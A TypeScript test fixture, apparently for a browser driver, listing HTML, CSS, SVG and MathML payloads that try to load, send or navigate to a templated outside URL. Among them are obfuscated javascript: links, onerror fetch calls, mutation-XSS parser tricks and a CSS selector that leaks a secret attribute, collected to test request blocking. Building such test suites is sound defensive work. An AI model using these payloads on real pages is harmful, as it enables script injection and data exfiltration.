// Hostile markup without scripts of its own: what loads, sends or leads elsewhere in HTML, styles and drawings, and tricks on parsers.
import { isInPackage } from '../../src/drivers/browser/chromiumFiles.ts'
import type { PagePayload } from './pagePayload.ts'

const markup: PagePayload[] = [
  { name: 'picture', html: ({ url }) => `<img src="${url}/picture">` },
  { name: 'srcset', html: ({ url }) => `<img srcset="${url}/small 1x, ${url}/large 2x">` },
  { name: 'picture with sources', html: ({ url }) => `<picture><source srcset="${url}/source"><img></picture>` },
  { name: 'picture of an input', html: ({ url }) => `<input type=image src="${url}/input">` },
  { name: 'background attribute', html: ({ url }) => `<table background="${url}/background"><tr><td>x</table>` },
  {
    name: 'video with poster and track',
    html: ({ url }) =>
      `<video src="${url}/video" poster="${url}/poster" autoplay muted><track default src="${url}/track"></video>`,
  },
  { name: 'audio with sources', html: ({ url }) => `<audio autoplay muted><source src="${url}/audio"></audio>` },
  {
    name: 'frame',
    html: ({ url }) => `<iframe src="${url}/frame"></iframe>`,
    onlyCleaned: 'Chromium opens a connection before it asks the policy, though it sends nothing',
  },
  {
    name: 'frame with srcdoc',
    html: ({ url }) => `<iframe srcdoc="<img src='${url}/srcdoc'><script>fetch('${url}/srcdoc2')</script>"></iframe>`,
  },
  {
    name: 'frame with a script as its URL',
    html: ({ url }) => `<iframe src="javascript:fetch('${url}/frame-script', { mode: 'no-cors' })"></iframe>`,
  },
  {
    name: 'frame with a data URL',
    html: ({ url }) => `<iframe src="data:text/html,<img src='${url}/data-frame'>"></iframe>`,
  },
  { name: 'object', html: ({ url }) => `<object data="${url}/object"></object>` },
  { name: 'embed', html: ({ url }) => `<embed src="${url}/embed">` },
  {
    name: 'applet',
    html: ({ url }) => `<applet codebase="${url}" code="a.class" archive="${url}/a.jar"></applet>`,
    inert: 'no browser runs applets any more',
  },
  {
    name: 'form that is sent',
    html: ({ url }) =>
      `<form action="${url}/form" method=post><input name=a value=b><button data-click>Send</button></form>`,
  },
  {
    name: 'form that a script sends',
    html: ({ url }) => `<form action="${url}/form"><input name=a></form><script>document.forms[0].submit()</script>`,
  },
  {
    name: 'formaction',
    html: ({ url }) => `<form><button data-click formaction="${url}/formaction">Send</button></form>`,
  },
  { name: 'ping', html: ({ url }) => `<a href="#here" ping="${url}/ping" data-click>Here</a>` },
  {
    name: 'javascript: link',
    html: ({ url }) => `<a href="javascript:fetch('${url}/link', { mode: 'no-cors' })" data-click>Go</a>`,
  },
  {
    name: 'javascript: link in another spelling',
    html: ({ url }) => `<a href=" jAva&#x09;script&colon;fetch('${url}/link2', { mode: 'no-cors' })" data-click>Go</a>`,
  },
  {
    name: 'javascript: link of a new window',
    html: ({ word }) =>
      `<a href="javascript:opener.postMessage('${word}', '*')" target=_blank rel=opener data-click>Go</a>`,
    inert: 'Chromium blocks scripts as the URL of another window that shares nothing with the page',
  },
  { name: 'base', html: ({ url }) => `<base href="${url}/base/"><img src="relative">` },
  {
    name: 'meta refresh',
    html: ({ url }) => `<meta http-equiv=refresh content="0;url=${url}/refresh">`,
    onlyCleaned: 'a page may always lead itself elsewhere, and no header forbids it while scripts are allowed',
  },
  {
    name: 'meta refresh to a data URL',
    only: 'frame',
    html: ({ url }) => `<meta http-equiv=refresh content="0;url=data:text/html,<img src='${url}/refresh2'>">`,
  },
  { name: 'stylesheet', html: ({ url }) => `<link rel=stylesheet href="${url}/stylesheet">` },
  {
    name: 'preload',
    html: ({ url }) =>
      `<link rel=preload as=image href="${url}/preload"><link rel=modulepreload href="${url}/modulepreload">`,
  },
  {
    name: 'prefetch',
    html: ({ url }) => `<link rel=prefetch href="${url}/prefetch"><link rel=prerender href="${url}/prerender">`,
  },
  {
    name: 'preconnect',
    html: ({ url }) => `<link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}">`,
    inert: 'this Chromium opens no connection because of a link; others do, whatever the policy says',
  },
  {
    name: 'icon',
    html: ({ url }) => `<link rel=icon href="${url}/icon"><link rel=apple-touch-icon href="${url}/touch">`,
    ...(isInPackage && {
      inert: 'the Chromium of the npm package has no tabs, so it asks for no icon; an installed one does',
    }),
  },
  {
    name: 'manifest',
    html: ({ url }) => `<link rel=manifest href="${url}/manifest">`,
    inert: 'a browser without a window installs nothing',
  },
]

const styles: PagePayload[] = [
  { name: 'background of a style', html: ({ url }) => `<p style="background: url(${url}/style)">x</p>` },
  {
    name: 'background in a style element',
    html: ({ url }) => `<style>body { background: url(${url}/background) }</style>x`,
  },
  { name: 'background in escapes', html: ({ url }) => `<style>body { background: \\75 rl(${url}/escaped) }</style>x` },
  { name: 'import of a style', html: ({ url }) => `<style>@import "${url}/import";</style>` },
  {
    name: 'font',
    html: ({ url }) =>
      `<style>@font-face { font-family: far; src: url(${url}/font) } p { font-family: far }</style><p>x`,
  },
  {
    name: 'cursor',
    html: ({ url }) => `<style>* { cursor: url(${url}/cursor), auto }</style><button data-click>x</button>`,
  },
  {
    name: 'attribute selectors',
    html: ({ url }) =>
      `<style>p[data-secret^="s"] { background: url(${url}/starts-with-s) }</style><p data-secret="secret">x`,
  },
  {
    name: 'image-set and border',
    html: ({ url }) =>
      `<p style="border-image: image-set('${url}/border' 1x) 1; border-width: 2px; border-style: solid">x</p>`,
  },
  { name: 'content of ::before', html: ({ url }) => `<style>p::before { content: url(${url}/content) }</style><p>x` },
  {
    name: 'filter',
    html: ({ url }) => `<p style="filter: url(${url}/filter.svg#a)">x</p>`,
    inert: 'Chromium takes only filters of the page itself',
  },
  {
    name: 'namespace of variables',
    html: ({ url }) => `<style>:root { --far: url(${url}/variable) } p { background: var(--far) }</style><p>x`,
  },
]

const drawings: PagePayload[] = [
  { name: 'script in SVG', html: ({ url }) => `<svg><script>fetch('${url}/svg', { mode: 'no-cors' })</script></svg>` },
  { name: 'onload of SVG', html: ({ url }) => `<svg onload="fetch('${url}/svg-onload', { mode: 'no-cors' })"></svg>` },
  { name: 'image in SVG', html: ({ url }) => `<svg><image href="${url}/svg-image" width=9 height=9></image></svg>` },
  {
    name: 'use in SVG',
    html: ({ url }) => `<svg><use href="${url}/use.svg#a"></use></svg>`,
    inert: 'Chromium takes only parts of its own origin',
  },
  {
    name: 'feImage in SVG',
    html: ({ url }) =>
      `<svg><filter id=f><feImage href="${url}/fe-image"></feImage></filter><rect width=9 height=9 filter="url(#f)"></rect></svg>`,
  },
  {
    name: 'foreignObject',
    html: ({ url }) => `<svg><foreignObject width=9 height=9><img src="${url}/foreign"></foreignObject></svg>`,
  },
  {
    name: 'animated link in SVG',
    html: ({ url }) =>
      `<svg width=90 height=90><a data-click><animate attributeName=href values="javascript:fetch('${url}/animate', { mode: 'no-cors' })"></animate><text y=20>Go</text></a></svg>`,
  },
  {
    name: 'animated picture in SVG',
    html: ({ url }) => `<svg><image width=9 height=9><set attributeName=href to="${url}/set"></set></image></svg>`,
  },
  {
    name: 'fill by a URL',
    html: ({ url }) => `<svg><rect width=9 height=9 fill="url(${url}/fill.svg#a)"></rect></svg>`,
  },
  {
    name: 'SVG in a picture',
    html: ({ url }) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}/inner'/></svg>">`,
    inert: 'a picture loads nothing',
  },
  {
    name: 'MathML link',
    html: ({ url }) =>
      `<math><mtext><a href="javascript:fetch('${url}/math', { mode: 'no-cors' })" data-click>Go</a></mtext></math>`,
  },
]

const mutations: PagePayload[] = [
  {
    name: 'shadow root',
    html: ({ url }) => `<div><template shadowrootmode=open><img src="${url}/shadow"></template></div>`,
  },
  {
    name: 'noscript',
    html: ({ url }) => `<noscript><p title="</noscript><img src=x: onerror=fetch('${url}/noscript')>">`,
  },
  {
    name: 'math and mglyph',
    html: ({ url }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=fetch('${url}/mglyph')&gt;">`,
    inert: 'it needs a second parse',
  },
  {
    name: 'form in a form',
    inert: 'it needs a second parse',
    html: ({ url }) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="fetch('${url}/forms', { mode: 'no-cors' })">`,
  },
  {
    name: 'svg and title',
    inert: 'it needs a second parse',
    html: ({ url }) =>
      `<svg></p><title><style></svg><img src=x: onerror="fetch('${url}/svg-title', { mode: 'no-cors' })"></style>`,
  },
  { name: 'comment that ends early', html: ({ url }) => `<!--><img src="${url}/comment">-->` },
  { name: 'textarea that ends', html: ({ url }) => `<textarea></textarea><img src="${url}/textarea">` },
  { name: 'title that ends', html: ({ url }) => `<title></title><img src="${url}/title"></title>` },
  {
    name: 'end of a script block',
    html: ({ url }) => `<script type=application/json>{"a": "</script><img src=${url}/json>"}</script>`,
  },
  { name: 'attribute that ends', html: ({ url }) => `"><img src="${url}/attribute"><p title="` },
  { name: 'xmp', html: ({ url }) => `<xmp></xmp><img src="${url}/xmp">` },
]

export const markupPayloads: PagePayload[] = [...markup, ...styles, ...drawings, ...mutations]
